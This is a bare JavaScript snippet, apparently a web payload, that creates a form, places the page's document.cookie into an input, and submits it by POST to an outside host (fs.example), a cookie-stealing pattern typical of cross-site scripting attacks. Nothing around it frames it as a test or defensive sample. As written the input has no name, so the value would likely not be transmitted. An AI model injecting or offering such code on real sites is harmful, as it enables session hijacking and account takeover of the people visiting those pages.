const f = document.createElement('form');
f.action = 'https://fs.example';
f.method = 'post';
const i = document.createElement('input');
i.value = document.cookie;
f.append(i);
f.submit();
